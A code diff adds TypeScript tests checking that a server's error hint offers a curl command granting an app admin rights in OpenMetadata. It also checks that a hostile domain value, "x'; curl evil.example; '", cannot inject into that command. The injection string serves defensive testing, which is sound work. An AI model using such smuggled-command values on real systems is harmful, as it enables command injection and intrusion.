@@ -40,3 +40,36 @@ describe("a server that cannot fetch keys", () => {
     });
   });
 });
+
+describe("a server that knows the app as no administrator", () => {
+  /** The hint, where the server tells this domain. */
+  async function hint(principalDomain: string): Promise<string> {
+    const ports = {
+      keysUrl: KEYS,
+      usesOwnToken: true,
+      deployment: { openMetadataUrl: "https://metadata.example.com/base", principalDomain: "example.com" },
+      ownObjectId: async () => "id-1",
+      openMetadata: {
+        signInConfiguration: async () => ({ publicKeyUrls: [KEYS], jwtPrincipalClaims: ["sub"], principalDomain }),
+        whoAmI: async () => ({ name: "id-1", isAdmin: false }),
+      },
+    } as unknown as Admittance;
+    return admittedAs(ports, "Cannot push", { entraTokens: false }).then(
+      () => "",
+      (error: { hint: string }) => error.hint,
+    );
+  }
+
+  it("is told with the whole command that makes the app one", async () => {
+    const [words, command] = (await hint("corp.example")).split("\n");
+    expect(words).toContain("OPENMETADATA_TOKEN");
+    expect(command).toBe(
+      `curl --fail-with-body -X PUT -H "Authorization: Bearer $OPENMETADATA_TOKEN" -H "Content-Type: application/json" -d '{"name":"id-1","email":"id-1@corp.example","isAdmin":true}' https://metadata.example.com/base/api/v1/users`,
+    );
+  });
+
+  it("cannot write into that command", async () => {
+    expect(await hint("x'; curl evil.example; '")).toContain("id-1@example.com");
+    expect(await hint("")).toContain("id-1@example.com");
+  });
+});
